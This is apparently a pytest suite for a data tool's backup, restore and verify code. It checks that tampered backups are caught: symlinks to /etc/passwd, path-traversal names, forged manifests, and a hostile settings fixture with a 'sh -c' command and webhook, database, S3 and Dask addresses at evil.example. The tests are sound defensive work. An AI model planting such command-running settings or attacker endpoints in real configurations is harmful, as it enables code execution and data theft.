"""Backups and stores that somebody changed: links and folders in place of files, settings that run
commands, and a manifest made anew."""

import hashlib
import json
import os
import shutil
import tomllib
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from aerodb.errors import InputError, StoreError
from aerodb.flows.cli.main import app
from aerodb.storage.catalogue.catalogue import Catalogue
from aerodb.storage.inbox.uploads import put_into_inbox
from aerodb.storage.upkeep.backup import back_up, manifest_of, restore
from aerodb.storage.upkeep.restored_settings import quiet
from aerodb.storage.upkeep.verification import verify
from aerodb.storage.workspace import Workspace
from aerodb.storage.workspace_settings import load_settings
from tests.support.shared_workspace import SharedWorkspaces
from tests.support.small_glider import NAME

_HOSTILE = """
[notification]
command = ["sh", "-c", "touch {0}/ran \\"x\\""]
webhook = "https://evil.example/x"
[catalogue]
url = "postgresql://evil.example/x"
[store]
url = "s3://evil-bucket/x"
[work]
engine = "dask"
address = "tls://evil.example:8786"
confined = false
[limits]
reserve = 1000
memory = 3_000_000_000
[inbox]
settle = "2 s"
[vehicles."{1}"]
strict = true
[vehicles."{1}".notification]
command = ["sh"]
on = ["failed"]
[vehicles."{1}".accuracy]
attitude = "2 deg"
"""


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory, shared: SharedWorkspaces) -> Path:
    workspace, _ = shared.updated(tmp_path_factory.mktemp("w"), flights=2)
    return workspace.root


@pytest.fixture
def workspace(made: Path, tmp_path: Path) -> Workspace:
    return Workspace.open(Path(shutil.copytree(made, tmp_path / "w")))


def found(workspace: Workspace) -> list[tuple[str, str]]:
    with Catalogue.open(workspace.catalogue) as catalogue:
        return [(each.kind, each.where) for each in verify(workspace, catalogue).problems]


def test_a_folder_or_a_link_in_place_of_a_stored_file_is_found(workspace: Workspace) -> None:
    assert found(workspace) == []
    flights = sorted((workspace.root / "flights").glob("*/*.parquet"))
    flights[0].unlink()
    flights[0].mkdir()
    (flights[0] / "flight.parquet").write_text("made a moment ago")
    away = workspace.root.parent / "away"
    flights[1].rename(away)
    flights[1].symlink_to(away)
    (recording,) = list((workspace.root / "flights").glob("*/*.topics"))[:1]
    topic = next(path for path in sorted(recording.iterdir()) if path.suffix == ".parquet")
    topic.rename(away.with_suffix(".topic"))
    topic.symlink_to(away.with_suffix(".topic"))
    entry = workspace.root / "quarantine" / ("ab" * 32)
    entry.mkdir()
    (entry / "log.csv").symlink_to("/etc/passwd")
    (entry / "reason.json").symlink_to("/etc/passwd")
    relative = workspace.relative
    assert sorted(found(workspace)) == sorted(
        [
            ("missing", relative(flights[0])),
            ("link", relative(flights[1])),
            ("link", relative(topic)),
            ("link", relative(entry / "log.csv")),
            ("link", relative(entry / "reason.json")),
        ]
    )


def test_a_backup_follows_no_link(workspace: Workspace, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("a secret")
    entry = workspace.root / "quarantine" / ("ab" * 32)
    entry.mkdir()
    (entry / "log.csv").write_text("x")
    (entry / "reason.json").symlink_to(secret)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "log.csv").write_text("elsewhere")
    (workspace.root / "quarantine" / ("cd" * 32)).symlink_to(elsewhere)
    problems = [each.where for each in back_up(workspace, tmp_path / "b").problems]
    assert workspace.relative(entry / "reason.json") in problems
    texts = [path.read_bytes() for path in (tmp_path / "b").rglob("*") if path.is_file()]
    assert b"a secret" not in texts
    assert b"elsewhere" not in texts


def _made_anew(backup: Path, **changed: Any) -> None:
    """Write a manifest as only somebody does who knows its format."""
    manifest = {**manifest_of(backup), **changed}
    sha256 = hashlib.sha256(json.dumps(manifest, indent=1).encode("ascii")).hexdigest()
    text = json.dumps({**manifest, "sha256": sha256}, indent=1) + "\n"
    (backup / "backup.json").write_text(text, encoding="ascii")


@pytest.mark.parametrize("named", ["quarantine/x/aside", "settings.toml", "../secret"])
def test_a_restore_follows_no_link_and_no_name_that_leads_elsewhere(
    workspace: Workspace, tmp_path: Path, named: str
) -> None:
    secret = tmp_path / "secret"
    secret.write_text("a secret")
    back_up(workspace, tmp_path / "b")
    if named.startswith("quarantine"):
        (tmp_path / "b" / named).parent.mkdir(parents=True)
        (tmp_path / "b" / named).symlink_to(secret)
    elif named == "settings.toml":
        (tmp_path / "b" / named).write_text(_HOSTILE.format(tmp_path, NAME))
    _made_anew(tmp_path / "b", quarantine=[named])
    with pytest.raises(InputError, match=r"a link is in place|none of a workspace's store"):
        restore(tmp_path / "b", tmp_path / "new")
    assert not (tmp_path / "new").exists()


def test_settings_that_run_or_connect_are_left_off_until_confirmed(
    workspace: Workspace, tmp_path: Path
) -> None:
    back_up(workspace, tmp_path / "b")
    hostile = _HOSTILE.format(tmp_path, NAME)
    (tmp_path / "b" / "settings.toml").write_text(hostile)
    _made_anew(tmp_path / "b", settings=hostile)
    result = CliRunner().invoke(
        app, ["--json", "restore", str(tmp_path / "b"), "--workspace", str(tmp_path / "new")]
    )
    assert result.exit_code == 0, (result.output, result.exception)
    left = {each.partition(" = ")[0] for each in json.loads(result.stdout)["left_off"]}
    assert left == {
        "notification.command",
        "notification.webhook",
        "catalogue.url",
        "store.url",
        "work.engine",
        "work.address",
        "work.confined",
        f"vehicles.{NAME}.notification.command",
    }
    settings = load_settings(tmp_path / "new")
    assert settings.notification_of(NAME).command == ()
    assert settings.notification_of(NAME).on == ("failed",)
    assert not settings.notification.command
    assert not settings.notification.webhook
    assert settings.work.confined
    assert settings.limits.reserve == 1000
    assert settings.inbox.settle == 2.0
    assert settings.of(NAME).strict
    assert settings.of(NAME).accuracy.given["attitude"] == pytest.approx(0.0349, abs=1e-4)
    assert found(Workspace.open(tmp_path / "new")) == []


def test_harmless_settings_stay_as_they_are_written() -> None:
    text = "# mine\n[limits]\nreserve = 1000 # bytes\n"
    assert quiet(text, "") == (text, ())


def test_every_kind_of_value_survives() -> None:
    text = """
    a = "\\u007f \\" \\\\ ü \\n"
    "b c" = [1, -2.5, true, inf, [["x"]], {d = 1}]
    [notification]
    command = ["x"]
    on = []
    [e."f.g".h]
    i = 'k'
    [[m]]
    n = 1
    """
    written, left = quiet(text, "")
    expected = tomllib.loads(text)
    del expected["notification"]["command"]
    assert left == ('notification.command = ["x"]',)
    assert tomllib.loads(written) == expected


def test_a_manifest_made_anew_is_noticed_by_its_hash(workspace: Workspace, tmp_path: Path) -> None:
    noted = back_up(workspace, tmp_path / "b").sha256
    assert restore(tmp_path / "b", tmp_path / "one", sha256=noted)["sha256"] == noted
    _made_anew(tmp_path / "b", settings="[limits]\nreserve = 1\n")
    assert restore(tmp_path / "b", tmp_path / "two")["sha256"] != noted
    with pytest.raises(InputError, match="not the backup that was meant"):
        restore(tmp_path / "b", tmp_path / "three", sha256=noted)
    assert not (tmp_path / "three").exists()


def test_the_inbox_of_a_vehicle_is_no_link(workspace: Workspace, tmp_path: Path) -> None:
    away = tmp_path / "away"
    away.mkdir()
    shutil.rmtree(workspace.inbox / NAME, ignore_errors=True)
    os.symlink(away, workspace.inbox / NAME)
    (tmp_path / "log.csv").write_text("x")
    with pytest.raises(StoreError, match="a link"):
        put_into_inbox(workspace, tmp_path / "log.csv", NAME, "log.csv", "ab" * 32)
    assert list(away.iterdir()) == []
